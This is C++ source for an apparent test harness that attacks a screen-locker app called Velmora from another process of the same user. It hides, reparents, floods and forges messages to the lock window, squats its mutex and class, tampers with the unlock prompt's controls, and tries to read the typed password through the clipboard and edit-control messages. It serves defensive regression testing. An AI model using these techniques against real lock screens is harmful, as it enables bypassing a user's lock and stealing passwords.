// A hostile program for test_hostile.sh: another process of the same user that finds the lock
// screen window (class "TfrmVOK") and does one thing to it, as a program running beside the lock
// could.
//   velmora_hostile <attack>
//       quit-window       posts WM_QUIT to the window
//       quit-thread       posts WM_QUIT to the window's thread
//       hide              ShowWindow SW_HIDE
//       hide-pos          SetWindowPos with SWP_HIDEWINDOW
//       minimize          ShowWindow SW_MINIMIZE
//       shrink            SetWindowPos to 10 by 10
//       offscreen         SetWindowPos to (5000, 5000)
//       bottom            SetWindowPos HWND_BOTTOM
//       notopmost         SetWindowPos HWND_NOTOPMOST
//       close             posts WM_CLOSE
//       syscommand-close  posts WM_SYSCOMMAND SC_CLOSE
//       destroy           DestroyWindow from outside
//     and what opened, exposed, crashed or locked out earlier versions:
//       nccreate-null     sends WM_NCCREATE without creation data, then posts WM_CLOSE
//       nccreate-forged   sends WM_NCCREATE and WM_CREATE whose creation data names the objects
//                         0x100 and 0x4141414141
//       ncdestroy-hide    sends WM_NCDESTROY, then ShowWindow SW_HIDE
//       destroy-messages  sends and posts WM_DESTROY and WM_NCDESTROY, then posts WM_CLOSE
//       parent-destroy    makes the lock a child of a window of its own, then destroys that
//       app-parent-destroy     the same with the program's hidden owner window
//       app-close         posts WM_CLOSE to the program's hidden owner window
//       layered-alpha     WS_EX_LAYERED with alpha 0
//       layered-colorkey  WS_EX_LAYERED with black as the colour key
//       layered-transparent  WS_EX_LAYERED | WS_EX_TRANSPARENT (clicks pass through)
//       child-style       WS_CHILD instead of WS_POPUP
//       region            SetWindowRgn to 10 by 10
//       owner             makes a window of its own the lock's owner
//       disable           EnableWindow FALSE
//       sc-move           posts WM_SYSCOMMAND SC_MOVE
//       sc-size           posts WM_SYSCOMMAND SC_SIZE
//     and, on the unlock prompt while it is up:
//       prompt-limit      EM_LIMITTEXT 1 to the password box
//       prompt-readonly   EM_SETREADONLY TRUE to the password box
//       prompt-passwordchar  EM_SETPASSWORDCHAR 0 to the password box
//       prompt-ok-disable EnableWindow FALSE on the OK button
//       prompt-edit-hide  ShowWindow SW_HIDE on the password box
//       prompt-edit-parent-destroy  makes the password box a child of a window of its own, then
//                         destroys that
//       prompt-hide       ShowWindow SW_HIDE on the prompt
//       prompt-parent-destroy  the same as prompt-edit-parent-destroy with the whole prompt
//       note-settext <characters>  WM_SETTEXT of that many letters to the message box
//       displaychange <count>      posts that many WM_DISPLAYCHANGE to the lock
//   velmora_hostile read <milliseconds>
//       for that long, every 10 ms, asks the prompt's password box for its text (WM_GETTEXT,
//       EM_GETLINE, EM_SETSEL with WM_COPY sent and posted, then the clipboard); prints
//       "read <number of non-empty answers> [the first]"
//   velmora_hostile flood <threads> <milliseconds>
//       that many threads send WM_NULL to the lock without waiting (SendNotifyMessage), as fast
//       as they can, for that long; after a quarter of it the lock is made the child of a window
//       of its own, which is then destroyed (both wait behind the flood); sampled until a second
//       after the flood
//   velmora_hostile churn <milliseconds>
//       makes the lock the child of a window of its own and destroys that, again and again
//     while either runs, the lock is sampled every 10 ms; prints "stretch <longest time out of
//     place in ms> <samples out of place> <samples>": out of place is not visible, not covering
//     the screen, not topmost, or under a visible window of another program than its own
//   velmora_hostile squat-mutex <seconds>, squat-window <seconds>
//       holds the lock's start-up mutex, or a hidden window of class TfrmVOK, for that long
//   velmora_hostile plant-message <bytes>
//       stores a message of that many letters as the lock's message (HKCU\Software\Velmora)
//   velmora_hostile <attack> <milliseconds>
//       the attack, then after that long (handling its messages) what probe prints
//   velmora_hostile steal <seconds>
//       shows a topmost window of its own, makes it the foreground window and keeps it up for
//       that long; prints "steal <ms> <foreground 0|1> <top 0|1> <foreground class> <top class>"
//       at once and every 500 ms: whether its window still is the foreground window and the top
//       of the visible windows, and the classes of those that are
//   velmora_hostile probe
//       lock <visible 0|1> <iconic 0|1> <left> <top> <right> <bottom> <topmost 0|1>
//       lockscreens <number of windows of class TfrmVOK, hidden ones included>
//       zorder <classes of the first four visible top-level windows, top first>
//       foreground <class of the foreground window, or "none">
//       screen <width> <height>
//       state <layered 0|1> <transparent 0|1> <child 0|1> <disabled 0|1> <region 0|1> <top-level 0|1>
//             <owned by a window of its own program 0|1>
//       prompt <password box visible 0|1> <read-only 0|1> <password character> <its limit above 1
//              0|1> <OK enabled 0|1> <characters in the message box>, when the prompt is up
// Exit code: 0 the attack was made (the system accepted the call), 3 no lock screen window, 4 the
// system refused the call, 2 a wrong command line.
#include <windows.h>

#include <algorithm>
#include <atomic>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

namespace {

constexpr char kLockScreenClass[] = "TfrmVOK";
constexpr char kStealClass[] = "VelmoraHostileWindow";

std::string ClassOf(HWND window) {
  if (window == nullptr) return "none";
  char name[256] = {};
  if (GetClassNameA(window, name, sizeof name) == 0) return "unknown";
  return name;
}

BOOL CALLBACK CollectVisible(HWND window, LPARAM context) {
  if (IsWindowVisible(window)) reinterpret_cast<std::vector<HWND>*>(context)->push_back(window);
  return TRUE;
}

// The visible top-level windows, top of the z-order first.
std::vector<HWND> VisibleWindows() {
  std::vector<HWND> windows;
  EnumWindows(CollectVisible, reinterpret_cast<LPARAM>(&windows));
  return windows;
}

BOOL CALLBACK CountLockScreens(HWND window, LPARAM context) {
  if (ClassOf(window) == kLockScreenClass) ++*reinterpret_cast<int*>(context);
  return TRUE;
}

// The prompt's password box, message box and OK button (the default button).
struct PromptControls {
  HWND password = nullptr;
  HWND memo = nullptr;
  HWND ok = nullptr;
};

BOOL CALLBACK CollectControl(HWND window, LPARAM context) {
  auto* controls = reinterpret_cast<PromptControls*>(context);
  const LONG_PTR style = GetWindowLongPtrA(window, GWL_STYLE);
  const std::string name = ClassOf(window);
  if (_stricmp(name.c_str(), "Edit") == 0) (style & ES_PASSWORD ? controls->password : controls->memo) = window;
  if (_stricmp(name.c_str(), "Button") == 0 && (style & 0x0F) == BS_DEFPUSHBUTTON) controls->ok = window;
  return TRUE;
}

// The visible unlock prompt, or null.
HWND Prompt() {
  for (HWND window = FindWindowExA(nullptr, nullptr, "TfrmAsk", nullptr); window != nullptr;
       window = FindWindowExA(nullptr, window, "TfrmAsk", nullptr)) {
    if (IsWindowVisible(window)) return window;
  }
  return nullptr;
}

PromptControls Controls() {
  PromptControls controls;
  if (const HWND prompt = Prompt()) EnumChildWindows(prompt, CollectControl, reinterpret_cast<LPARAM>(&controls));
  return controls;
}

// The lock screen of another process than this one (this one may hold a window of that class),
// the visible one if there is one.
HWND Lock() {
  HWND found = nullptr;
  for (HWND window = FindWindowExA(nullptr, nullptr, kLockScreenClass, nullptr); window != nullptr;
       window = FindWindowExA(nullptr, window, kLockScreenClass, nullptr)) {
    DWORD process = 0;
    GetWindowThreadProcessId(window, &process);
    if (process == GetCurrentProcessId()) continue;
    if (IsWindowVisible(window)) return window;
    if (found == nullptr) found = window;
  }
  return found;
}

int Probe() {
  const HWND lock = Lock();
  if (lock == nullptr) {
    std::printf("lock absent\n");
  } else {
    RECT bounds{};
    GetWindowRect(lock, &bounds);
    std::printf("lock %d %d %ld %ld %ld %ld %d\n", IsWindowVisible(lock) ? 1 : 0, IsIconic(lock) ? 1 : 0,
                bounds.left, bounds.top, bounds.right, bounds.bottom,
                (GetWindowLongPtrA(lock, GWL_EXSTYLE) & WS_EX_TOPMOST) != 0 ? 1 : 0);
  }
  int count = 0;
  EnumWindows(CountLockScreens, reinterpret_cast<LPARAM>(&count));
  std::printf("lockscreens %d\n", count);
  std::printf("zorder");
  const std::vector<HWND> windows = VisibleWindows();
  for (std::size_t i = 0; i < windows.size() && i < 4; ++i) std::printf(" %s", ClassOf(windows[i]).c_str());
  std::printf("\n");
  std::printf("foreground %s\n", ClassOf(GetForegroundWindow()).c_str());
  std::printf("screen %d %d\n", GetSystemMetrics(SM_CXSCREEN), GetSystemMetrics(SM_CYSCREEN));
  if (lock != nullptr) {
    const LONG_PTR style = GetWindowLongPtrA(lock, GWL_STYLE);
    const LONG_PTR exStyle = GetWindowLongPtrA(lock, GWL_EXSTYLE);
    RECT region{};
    DWORD program = 0, ownersProgram = 0;
    GetWindowThreadProcessId(lock, &program);
    const HWND owner = GetWindow(lock, GW_OWNER);
    if (owner != nullptr) GetWindowThreadProcessId(owner, &ownersProgram);
    std::printf("state %d %d %d %d %d %d %d\n", (exStyle & WS_EX_LAYERED) != 0, (exStyle & WS_EX_TRANSPARENT) != 0,
                (style & WS_CHILD) != 0, !IsWindowEnabled(lock), GetWindowRgnBox(lock, &region) != ERROR,
                GetAncestor(lock, GA_PARENT) == GetDesktopWindow(), owner != nullptr && ownersProgram == program);
  }
  const PromptControls controls = Controls();
  if (controls.password != nullptr) {
    DWORD_PTR character = 0, limit = 0;
    SendMessageTimeoutA(controls.password, EM_GETPASSWORDCHAR, 0, 0, SMTO_ABORTIFHUNG, 2000, &character);
    SendMessageTimeoutA(controls.password, EM_GETLIMITTEXT, 0, 0, SMTO_ABORTIFHUNG, 2000, &limit);
    DWORD_PTR note = 0;
    SendMessageTimeoutA(controls.memo, WM_GETTEXTLENGTH, 0, 0, SMTO_ABORTIFHUNG, 2000, &note);
    std::printf("prompt %d %d %lu %d %d %lu\n", IsWindowVisible(controls.password) ? 1 : 0,
                (GetWindowLongPtrA(controls.password, GWL_STYLE) & ES_READONLY) != 0 ? 1 : 0,
                static_cast<unsigned long>(character), limit > 1 ? 1 : 0, IsWindowEnabled(controls.ok) ? 1 : 0,
                static_cast<unsigned long>(note));
  }
  return lock != nullptr ? 0 : 3;
}

// Whether the lock covers the screen on top: visible, covering, topmost, and no visible window of
// another program than its own above it.
bool LockInPlace() {
  const HWND lock = Lock();
  if (lock == nullptr || !IsWindowVisible(lock) || IsIconic(lock)) return false;
  RECT bounds{};
  GetWindowRect(lock, &bounds);
  if (bounds.left > 0 || bounds.top > 0 || bounds.right < GetSystemMetrics(SM_CXSCREEN) ||
      bounds.bottom < GetSystemMetrics(SM_CYSCREEN) || (GetWindowLongPtrA(lock, GWL_EXSTYLE) & WS_EX_TOPMOST) == 0) {
    return false;
  }
  DWORD program = 0;
  GetWindowThreadProcessId(lock, &program);
  for (HWND window = GetTopWindow(nullptr); window != nullptr; window = GetWindow(window, GW_HWNDNEXT)) {
    if (window == lock) return true;
    DWORD owner = 0;
    GetWindowThreadProcessId(window, &owner);
    if (IsWindowVisible(window) && owner != program) return false;
  }
  return false;
}

// Samples the lock every 10 ms until `running` is cleared; prints the longest stretch out of place.
void Sample(const std::atomic<bool>& running) {
  DWORD longest = 0, outSince = 0;
  int out = 0, samples = 0;
  bool wasOut = false;
  while (running) {
    const DWORD now = GetTickCount();
    const bool in = LockInPlace();
    ++samples;
    if (!in) {
      ++out;
      if (!wasOut) outSince = now;
      longest = std::max(longest, now - outSince);
    }
    wasOut = !in;
    Sleep(10);
  }
  std::printf("stretch %lu %d %d\n", static_cast<unsigned long>(longest), out, samples);
}

// Handles this thread's messages until `milliseconds` have passed.
void PumpFor(DWORD milliseconds) {
  const DWORD start = GetTickCount();
  for (;;) {
    const DWORD elapsed = GetTickCount() - start;
    if (elapsed >= milliseconds) return;
    MsgWaitForMultipleObjects(0, nullptr, FALSE, milliseconds - elapsed, QS_ALLINPUT);
    MSG message;
    while (PeekMessageA(&message, nullptr, 0, 0, PM_REMOVE)) {
      TranslateMessage(&message);
      DispatchMessageA(&message);
    }
  }
}

void PrintSteal(HWND own, DWORD milliseconds) {
  const std::vector<HWND> windows = VisibleWindows();
  const bool top = !windows.empty() && windows.front() == own;
  std::printf("steal %lu %d %d %s %s\n", static_cast<unsigned long>(milliseconds),
              GetForegroundWindow() == own ? 1 : 0, top ? 1 : 0, ClassOf(GetForegroundWindow()).c_str(),
              windows.empty() ? "none" : ClassOf(windows.front()).c_str());
  std::fflush(stdout);
}

int Steal(DWORD seconds) {
  const HINSTANCE instance = GetModuleHandleA(nullptr);
  WNDCLASSA windowClass{};
  windowClass.lpfnWndProc = DefWindowProcA;
  windowClass.hInstance = instance;
  windowClass.hbrBackground = CreateSolidBrush(RGB(255, 0, 0));
  windowClass.lpszClassName = kStealClass;
  RegisterClassA(&windowClass);
  const HWND own = CreateWindowExA(WS_EX_TOPMOST, kStealClass, "Hostile", WS_POPUP, 100, 100, 400, 300, nullptr,
                                   nullptr, instance, nullptr);
  if (own == nullptr) return 4;
  ShowWindow(own, SW_SHOW);
  SetWindowPos(own, HWND_TOPMOST, 0, 0, 0, 0, SWP_NOMOVE | SWP_NOSIZE);
  const bool taken = SetForegroundWindow(own) != FALSE;
  SetActiveWindow(own);
  SetFocus(own);
  PrintSteal(own, 0);
  for (DWORD elapsed = 0; elapsed < seconds * 1000; elapsed += 500) {
    PumpFor(500);
    PrintSteal(own, elapsed + 500);
  }
  DestroyWindow(own);
  return taken ? 0 : 4;
}

// A window of this process that another window is made a child of, then destroyed with it.
bool AdoptAndDestroy(HWND victim) {
  const HWND parent = CreateWindowExA(0, "STATIC", "Hostile", WS_POPUP | WS_VISIBLE, 0, 0, 300, 200, nullptr,
                                      nullptr, GetModuleHandleA(nullptr), nullptr);
  if (victim == nullptr || parent == nullptr) return false;
  const bool adopted = SetParent(victim, parent) != nullptr;
  PumpFor(100);
  return DestroyWindow(parent) != FALSE && adopted;
}

LRESULT Send(HWND window, UINT message, WPARAM wParam, LPARAM lParam) {
  DWORD_PTR result = 0;
  SendMessageTimeoutA(window, message, wParam, lParam, SMTO_ABORTIFHUNG, 2000, &result);
  return static_cast<LRESULT>(result);
}

bool Restyle(HWND lock, int index, LONG_PTR set, LONG_PTR clear = 0) {
  SetLastError(0);
  const LONG_PTR old = GetWindowLongPtrA(lock, index);
  return SetWindowLongPtrA(lock, index, (old & ~clear) | set) != 0 || GetLastError() == 0;
}

bool Layer(HWND lock, COLORREF key, BYTE alpha, DWORD flags, LONG_PTR extra = 0) {
  const bool styled = Restyle(lock, GWL_EXSTYLE, WS_EX_LAYERED | extra);
  SetLayeredWindowAttributes(lock, key, alpha, flags);
  return styled;
}

// Every 10 ms for `milliseconds`, what the password box gives away.
int Read(DWORD milliseconds) {
  int answers = 0;
  std::string first;
  const auto found = [&](const std::string& text) {
    if (text.empty()) return;
    if (answers++ == 0) first = text;
  };
  if (OpenClipboard(nullptr)) {
    EmptyClipboard();
    CloseClipboard();
  }
  for (const DWORD start = GetTickCount(); GetTickCount() - start < milliseconds; Sleep(10)) {
    const HWND box = Controls().password;
    if (box == nullptr) continue;
    char text[256] = {};
    DWORD_PTR length = 0;
    SendMessageTimeoutA(box, WM_GETTEXT, sizeof text, reinterpret_cast<LPARAM>(text), SMTO_ABORTIFHUNG, 500, &length);
    found(text);
    char line[256] = {};
    *reinterpret_cast<WORD*>(line) = sizeof line - 1;
    SendMessageTimeoutA(box, EM_GETLINE, 0, reinterpret_cast<LPARAM>(line), SMTO_ABORTIFHUNG, 500, &length);
    found(std::string(line, std::min<std::size_t>(length, sizeof line - 1)));
    SendMessageTimeoutA(box, EM_SETSEL, 0, -1, SMTO_ABORTIFHUNG, 500, &length);
    SendMessageTimeoutA(box, WM_COPY, 0, 0, SMTO_ABORTIFHUNG, 500, &length);
    PostMessageA(box, WM_COPY, 0, 0);
    if (OpenClipboard(nullptr)) {
      if (const HANDLE data = GetClipboardData(CF_TEXT)) {
        if (const char* copied = static_cast<const char*>(GlobalLock(data))) {
          found(copied);
          GlobalUnlock(data);
        }
      }
      CloseClipboard();
    }
  }
  std::printf("read %d %s\n", answers, first.c_str());
  return 0;
}

int Flood(int threads, DWORD milliseconds) {
  std::atomic<bool> flooding{true};
  std::atomic<bool> sampling{true};
  std::thread sampler([&sampling] { Sample(sampling); });
  std::vector<std::thread> senders;
  for (int i = 0; i < threads; ++i) {
    senders.emplace_back([&flooding] {
      while (flooding) SendNotifyMessageA(Lock(), WM_NULL, 0, 0);
    });
  }
  // The flood ends on time even while this thread waits behind it for the lock's thread.
  std::thread stopper([&flooding, milliseconds] {
    Sleep(milliseconds);
    flooding = false;
  });
  Sleep(milliseconds / 4);
  const bool adopted = AdoptAndDestroy(Lock());
  stopper.join();
  for (std::thread& sender : senders) sender.join();
  // What the lock's thread still has to handle once the flood is over is sampled too.
  PumpFor(1000);
  sampling = false;
  sampler.join();
  return adopted ? 0 : 4;
}

int Churn(DWORD milliseconds) {
  std::atomic<bool> running{true};
  std::thread sampler([&running] { Sample(running); });
  int adopted = 0;
  for (const DWORD start = GetTickCount(); GetTickCount() - start < milliseconds;) adopted += AdoptAndDestroy(Lock());
  running = false;
  sampler.join();
  return adopted > 0 ? 0 : 4;
}

// Holds the start-up mutex or a hidden window of the lock screen's class for `seconds`.
int Squat(bool window, DWORD seconds) {
  HANDLE mutex = nullptr;
  if (window) {
    WNDCLASSA windowClass{};
    windowClass.lpfnWndProc = DefWindowProcA;
    windowClass.hInstance = GetModuleHandleA(nullptr);
    windowClass.lpszClassName = kLockScreenClass;
    RegisterClassA(&windowClass);
    if (CreateWindowExA(0, kLockScreenClass, "", WS_POPUP, 0, 0, 10, 10, nullptr, nullptr, nullptr, nullptr) == nullptr)
      return 4;
  } else {
    mutex = CreateMutexA(nullptr, TRUE, "Local\\Velmora.TfrmVOK");
    if (mutex == nullptr || GetLastError() == ERROR_ALREADY_EXISTS) return 4;
  }
  std::printf("squatting\n");
  std::fflush(stdout);
  PumpFor(seconds * 1000);
  if (mutex != nullptr) CloseHandle(mutex);
  return 0;
}

int PlantMessage(std::size_t bytes) {
  const std::string message(bytes, 'x');
  HKEY key = nullptr;
  if (RegCreateKeyExA(HKEY_CURRENT_USER, "Software\\Velmora", 0, nullptr, 0, KEY_SET_VALUE, nullptr, &key, nullptr) !=
      ERROR_SUCCESS) {
    return 4;
  }
  const LONG stored = RegSetValueExA(key, "Message", 0, REG_SZ, reinterpret_cast<const BYTE*>(message.c_str()),
                                     static_cast<DWORD>(message.size() + 1));
  RegCloseKey(key);
  return stored == ERROR_SUCCESS ? 0 : 4;
}

bool Attack(const std::string& name, HWND lock, const char* argument) {
  constexpr UINT kKeepSize = SWP_NOMOVE | SWP_NOSIZE;
  const HWND application = FindWindowA("TVelmoraApplication", nullptr);
  const PromptControls prompt = Controls();
  const int count = argument != nullptr ? std::atoi(argument) : 0;
  if (name.rfind("prompt-", 0) == 0 && prompt.password == nullptr) return false;
  if (name == "prompt-limit") return Send(prompt.password, EM_LIMITTEXT, 1, 0), true;
  if (name == "prompt-readonly") return Send(prompt.password, EM_SETREADONLY, TRUE, 0), true;
  if (name == "prompt-passwordchar") return Send(prompt.password, EM_SETPASSWORDCHAR, 0, 0), true;
  if (name == "prompt-ok-disable") return EnableWindow(prompt.ok, FALSE), true;
  if (name == "prompt-edit-hide") return ShowWindow(prompt.password, SW_HIDE), true;
  if (name == "prompt-edit-parent-destroy") return AdoptAndDestroy(prompt.password);
  if (name == "prompt-hide") return ShowWindow(Prompt(), SW_HIDE), true;
  if (name == "prompt-parent-destroy") return AdoptAndDestroy(Prompt());
  if (name == "note-settext") {
    const std::string note(static_cast<std::size_t>(count), 'x');
    return prompt.memo != nullptr && (Send(prompt.memo, WM_SETTEXT, 0, reinterpret_cast<LPARAM>(note.c_str())), true);
  }
  if (name == "displaychange") {
    for (int i = 0; i < count; ++i) PostMessageA(lock, WM_DISPLAYCHANGE, 32, MAKELPARAM(1280, 1024));
    return count > 0;
  }
  if (name == "nccreate-null") return Send(lock, WM_NCCREATE, 0, 0), PostMessageA(lock, WM_CLOSE, 0, 0) != FALSE;
  if (name == "nccreate-forged") {
    for (const UINT_PTR object : {UINT_PTR{0x100}, static_cast<UINT_PTR>(0x4141414141ull)}) {
      CREATESTRUCTA creation{};
      creation.lpCreateParams = reinterpret_cast<void*>(object);
      Send(lock, WM_NCCREATE, 0, reinterpret_cast<LPARAM>(&creation));
      Send(lock, WM_CREATE, 0, reinterpret_cast<LPARAM>(&creation));
    }
    return true;
  }
  if (name == "ncdestroy-hide") return Send(lock, WM_NCDESTROY, 0, 0), ShowWindow(lock, SW_HIDE), true;
  if (name == "destroy-messages") {
    Send(lock, WM_DESTROY, 0, 0);
    Send(lock, WM_NCDESTROY, 0, 0);
    PostMessageA(lock, WM_DESTROY, 0, 0);
    PostMessageA(lock, WM_NCDESTROY, 0, 0);
    return PostMessageA(lock, WM_CLOSE, 0, 0) != FALSE;
  }
  if (name == "parent-destroy") return AdoptAndDestroy(lock);
  if (name == "app-parent-destroy") return AdoptAndDestroy(application);
  if (name == "app-close") return PostMessageA(application, WM_CLOSE, 0, 0) != FALSE;
  if (name == "layered-alpha") return Layer(lock, 0, 0, LWA_ALPHA);
  if (name == "layered-colorkey") return Layer(lock, RGB(0, 0, 0), 255, LWA_COLORKEY);
  if (name == "layered-transparent") return Layer(lock, 0, 255, LWA_ALPHA, WS_EX_TRANSPARENT);
  if (name == "child-style") return Restyle(lock, GWL_STYLE, WS_CHILD, WS_POPUP);
  if (name == "region") return SetWindowRgn(lock, CreateRectRgn(0, 0, 10, 10), TRUE) != 0;
  if (name == "disable") return EnableWindow(lock, FALSE), true;
  if (name == "owner") {
    const HWND own = CreateWindowExA(0, "STATIC", "", WS_POPUP, 0, 0, 1, 1, nullptr, nullptr, nullptr, nullptr);
    SetLastError(0);
    return own != nullptr && (SetWindowLongPtrA(lock, GWLP_HWNDPARENT, reinterpret_cast<LONG_PTR>(own)) != 0 ||
                              GetLastError() == 0);
  }
  if (name == "sc-move") return PostMessageA(lock, WM_SYSCOMMAND, SC_MOVE, 0) != FALSE;
  if (name == "sc-size") return PostMessageA(lock, WM_SYSCOMMAND, SC_SIZE, 0) != FALSE;
  if (name == "quit-window") return PostMessageA(lock, WM_QUIT, 0, 0) != FALSE;
  if (name == "quit-thread") return PostThreadMessageA(GetWindowThreadProcessId(lock, nullptr), WM_QUIT, 0, 0) != FALSE;
  // ShowWindow answers whether the window was visible before, not whether it succeeded.
  if (name == "hide") return ShowWindow(lock, SW_HIDE), true;
  if (name == "hide-pos")
    return SetWindowPos(lock, nullptr, 0, 0, 0, 0, SWP_HIDEWINDOW | kKeepSize | SWP_NOZORDER) != FALSE;
  if (name == "minimize") return ShowWindow(lock, SW_MINIMIZE), true;
  if (name == "shrink") return SetWindowPos(lock, nullptr, 0, 0, 10, 10, SWP_NOZORDER | SWP_NOACTIVATE) != FALSE;
  if (name == "offscreen") {
    return SetWindowPos(lock, nullptr, 5000, 5000, 0, 0, SWP_NOSIZE | SWP_NOZORDER | SWP_NOACTIVATE) != FALSE;
  }
  if (name == "bottom") return SetWindowPos(lock, HWND_BOTTOM, 0, 0, 0, 0, kKeepSize | SWP_NOACTIVATE) != FALSE;
  if (name == "notopmost") return SetWindowPos(lock, HWND_NOTOPMOST, 0, 0, 0, 0, kKeepSize | SWP_NOACTIVATE) != FALSE;
  if (name == "close") return PostMessageA(lock, WM_CLOSE, 0, 0) != FALSE;
  if (name == "syscommand-close") return PostMessageA(lock, WM_SYSCOMMAND, SC_CLOSE, 0) != FALSE;
  if (name == "destroy") return DestroyWindow(lock) != FALSE;
  std::fprintf(stderr, "unknown attack %s\n", name.c_str());
  std::exit(2);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) {
    std::fprintf(stderr, "usage: velmora_hostile <attack> | steal <seconds> | probe\n");
    return 2;
  }
  const std::string name = argv[1];
  const auto number = [argc, argv](int index) { return argc > index ? static_cast<DWORD>(std::atoi(argv[index])) : 0; };
  if (name == "probe") return Probe();
  if (name == "plant-message" && argc >= 3) return PlantMessage(static_cast<std::size_t>(std::atoll(argv[2])));
  if (name == "squat-mutex" || name == "squat-window") return Squat(name == "squat-window", number(2));
  if (name == "read") return Read(number(2));
  if (Lock() == nullptr) {
    std::printf("no lock screen window\n");
    return 3;
  }
  if (name == "steal") return Steal(argc >= 3 ? number(2) : 2);
  if (name == "flood") return Flood(static_cast<int>(number(2)), number(3));
  if (name == "churn") return Churn(number(2));
  // An attack that takes a number has it before the milliseconds of the probe.
  const bool counted = name == "note-settext" || name == "displaychange";
  const bool made = Attack(name, Lock(), counted && argc >= 3 ? argv[2] : nullptr);
  std::printf("%s %s\n", name.c_str(), made ? "made" : "refused");
  if (argc >= (counted ? 4 : 3)) {
    PumpFor(number(counted ? 3 : 2));
    Probe();
  }
  return made ? 0 : 4;
}
